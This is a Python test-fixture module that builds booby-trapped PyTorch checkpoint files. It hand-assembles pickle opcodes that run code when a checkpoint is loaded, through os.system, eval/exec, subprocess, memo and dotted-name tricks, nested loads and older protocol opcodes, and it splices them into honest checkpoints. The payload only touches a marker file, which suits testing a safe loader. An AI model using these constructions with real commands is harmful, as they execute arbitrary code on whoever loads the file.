"""Checkpoints that run a program when they are unpickled without restraint: each touches a marker file.

An attack is the opcodes that a pickle gets in front of its own, honest, content, so that a reader that fell for it
would go on and write its output. Only `touch` is ever run.
"""

from __future__ import annotations

import io
import pickle
import struct
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch

POP, REDUCE, STACK_GLOBAL, TUPLE1, TUPLE2, EMPTY_DICT, EMPTY_LIST, APPEND = (
    b"0", b"R", b"\x93", b"\x85", b"\x86", b"}", b"]", b"a",
)  # fmt: skip


def _text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _bytes(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def _global(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def _call(function: bytes, *arguments: bytes) -> bytes:
    assert len(arguments) in (1, 2)
    return function + b"".join(arguments) + (TUPLE1 if len(arguments) == 1 else TUPLE2) + REDUCE


def _touch(marker: Path) -> str:
    return f"touch {marker}"


def _touch_in_python(marker: Path) -> str:
    return f"__import__('pathlib').Path({str(marker)!r}).touch()"


class Touch:
    """An object whose pickle calls `os.system`."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        import os

        return os.system, (_touch(self.marker),)


def _stacked(module: str, name: str) -> bytes:
    return b"\x80\x04" + _text(module) + _text(name) + STACK_GLOBAL  # from protocol 4 on, names may be dotted


def _memoized(marker: Path) -> bytes:
    """The two names lie in the memo as if they were somebody's settings, and are fetched when nobody looks."""
    kept = b"(" + _text("os") + b"\x94" + _text("system") + b"\x94" + b"1"  # MARK, two MEMOIZE, POP_MARK
    return kept + _call(b"h\x00h\x01" + STACK_GLOBAL, _text(_touch(marker)))


def _getattr_of_import(marker: Path) -> bytes:
    """`getattr(__import__("os"), "system")(...)` in the names that Python 2 had."""
    os_module = _call(_global("__builtin__", "__import__"), _text("os"))
    return _call(_call(_global("__builtin__", "getattr"), os_module, _text("system")), _text(_touch(marker)))


def _loads_of(module: str, name: str, inner: bytes) -> bytes:
    return _call(_global(module, name), _bytes(inner))


def _saved(value: Any) -> bytes:
    buffer = io.BytesIO()
    torch.save(value, buffer)
    return buffer.getvalue()


# What is called, by the last part of its name, and the opcodes that do.
ATTACKS: dict[str, tuple[str, Callable[[Path], bytes]]] = {
    "os.system": ("system", lambda marker: _call(_global("os", "system"), _text(_touch(marker)))),
    "posix.system": ("system", lambda marker: _call(_global("posix", "system"), _text(_touch(marker)))),
    "builtins.eval": ("eval", lambda marker: _call(_global("builtins", "eval"), _text(_touch_in_python(marker)))),
    "builtins.exec": ("exec", lambda marker: _call(_global("builtins", "exec"), _text(_touch_in_python(marker)))),
    "__builtin__.eval": ("eval", lambda marker: _call(_global("__builtin__", "eval"), _text(_touch_in_python(marker)))),
    "__builtin__.getattr": ("__import__", _getattr_of_import),
    "subprocess.check_call": (
        "check_call",
        lambda marker: _call(
            _global("subprocess", "check_call"), EMPTY_LIST + _text("touch") + APPEND + _text(str(marker)) + APPEND
        ),
    ),
    "stack_global": ("system", lambda marker: _call(_stacked("os", "system"), _text(_touch(marker)))),
    "stack_global_memo": ("system", _memoized),
    # A dotted name walks attributes from a module that a list of trusted modules may well name.
    "torch.storage:torch.serialization.os.system": (
        "system",
        lambda marker: _call(_stacked("torch.storage", "torch.serialization.os.system"), _text(_touch(marker))),
    ),
    # Looks like what rebuilds a storage, and reads a whole second pickle without restraint.
    "torch.storage._load_from_bytes": (
        "_load_from_bytes",
        lambda marker: _loads_of("torch.storage", "_load_from_bytes", _saved(Touch(marker))),
    ),
    "_pickle.loads": ("loads", lambda marker: _loads_of("_pickle", "loads", pickle.dumps(Touch(marker)))),
    "torch.jit.unsupported_tensor_ops.execWrapper": (
        "execWrapper",
        lambda marker: (
            _global("torch.jit.unsupported_tensor_ops", "execWrapper")
            + _text(_touch_in_python(marker)) + EMPTY_DICT + EMPTY_DICT + b"\x87" + REDUCE
        ),
    ),
    # Opcodes of protocol 0 and 1 that call without REDUCE.
    "inst": ("system", lambda marker: b"(" + _text(_touch(marker)) + b"ios\nsystem\n"),
    "obj": ("system", lambda marker: b"(" + _global("os", "system") + _text(_touch(marker)) + b"o"),
}  # fmt: skip


def put_in_front(source: Path, target: Path, opcodes: bytes) -> None:
    """A torch file with `opcodes` run, and their result dropped, before its own pickle is."""
    with zipfile.ZipFile(source) as honest, zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as out:
        for record in honest.infolist():
            content = honest.read(record)
            if record.filename.endswith("/data.pkl"):
                assert content[:2] == b"\x80\x02", "torch pickles by protocol 2"
                content = content[:2] + opcodes + POP + content[2:]
            out.writestr(zipfile.ZipInfo(record.filename), content)


def write_plain_pickle(path: Path, marker: Path) -> None:
    """Neither a zip nor torch's older format: a bare pickle under a checkpoint's name."""
    path.write_bytes(pickle.dumps({"state_dict": {"cls_token": Touch(marker)}}))


def write_old_format(path: Path, marker: Path) -> None:
    """torch's format before zip files: several pickles one after the other."""
    torch.save({"state_dict": {}, "hyper_parameters": [Touch(marker)]}, path, _use_new_zipfile_serialization=False)


def plant_module(folder: Path, name: str, marker: Path) -> None:
    """A module on the search path whose mere import touches the marker."""
    folder.mkdir(exist_ok=True)
    (folder / f"{name}.py").write_text(f"{_touch_in_python(marker)}\nclass Rebuilt: pass\n")
    assert name not in sys.modules


def mention(module: str, name: str) -> bytes:
    """Opcodes that look a name up and call nothing."""
    return _global(module, name)


def set_attribute(module: str, name: str, attribute: str) -> bytes:
    """BUILD with a state of slots, which sets attributes of whatever lies on the stack, here of a function."""
    slots = EMPTY_DICT + _text(attribute) + b"\x88" + b"s"  # {attribute: True}
    return _global(module, name) + b"N" + slots + TUPLE2 + b"b"
